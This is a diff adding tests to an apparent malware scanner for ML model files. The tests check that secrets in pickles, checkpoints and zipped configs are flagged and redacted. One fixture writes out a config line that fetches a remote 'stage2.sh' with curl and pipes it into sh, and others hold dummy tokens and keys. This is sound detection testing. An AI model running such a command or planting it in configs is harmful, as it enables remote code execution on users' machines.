@@ -626,3 +626,52 @@ def test_sbom_is_valid_cyclonedx_1_6_with_every_file(
     ]
     assert vulns and vulns[0]["id"] == "MLW-SCN-001"
     assert vulns[0]["ratings"][0]["severity"] == "critical"
+
+
+# --- secrets and network indicators -----------------------------------------------------
+
+HF_TOKEN = "hf_" + "aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bC1dE3f"
+AWS_ID = "AKIA" + "IOSFODNN7EXAMPLE"
+PEM = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n"
+
+
+def test_secrets_in_pickle_constants_are_flagged_and_redacted() -> None:
+    data = pickle.dumps({"token": HF_TOKEN, "aws": AWS_ID, "w": [1.0, 2.0]})
+    res = scan_bytes(data)
+    hits = [i for i in res.findings if i.rule == "MLW-SCN-027"]
+    assert {i.message.split(" in the file")[0] for i in hits} == {
+        "Hugging Face token",
+        "AWS access key id",
+    }
+    assert res.verdict is Verdict.SAFE  # low: a leak, not code
+    text = json.dumps([i.to_dict() for i in res.findings])
+    assert HF_TOKEN not in text and AWS_ID not in text  # never the secret itself
+
+
+def test_secrets_in_a_torch_checkpoint_and_a_deflated_config(tmp_path: Path) -> None:
+    import torch
+
+    torch.save({"w": torch.zeros(2), "note": PEM}, tmp_path / "model.pt")
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
+        z.writestr("config.json", json.dumps({"url": "https://bob:s3cret@registry.example/x"}))
+    (tmp_path / "bundle.zip").write_bytes(buf.getvalue())
+    pt = scan_file(tmp_path / "model.pt")
+    assert any("private key" in i.message for i in pt.findings if i.rule == "MLW-SCN-027")
+    (hit,) = [i for i in scan_file(tmp_path / "bundle.zip").findings if i.rule == "MLW-SCN-027"]
+    assert "credentials in a URL" in hit.message and "s3cret" not in hit.message
+    assert hit.member == "config.json"
+
+
+def test_url_of_an_executable_is_an_indicator() -> None:
+    cfg = b"sample_rate: 16000\nsetup: curl -s http://203.0.113.9:8000/stage2.sh | sh\n"
+    res = scan_bytes(cfg)
+    assert any("stage2.sh" in i.message for i in res.findings if i.rule == "MLW-SCN-027")
+    ok = b'{"_name_or_path": "https://huggingface.co/bert-base-uncased/resolve/main/x.bin"}'
+    assert "MLW-SCN-027" not in _rules(scan_bytes(ok))
+
+
+def test_no_secret_is_flagged_in_the_benign_real_library_corpus(benign: list[Path]) -> None:
+    """False-flag rate of MLW-SCN-027 on files written by the real libraries: 0."""
+    flagged = [p.name for p in benign if "MLW-SCN-027" in _rules(scan_file(p))]
+    assert flagged == [], flagged
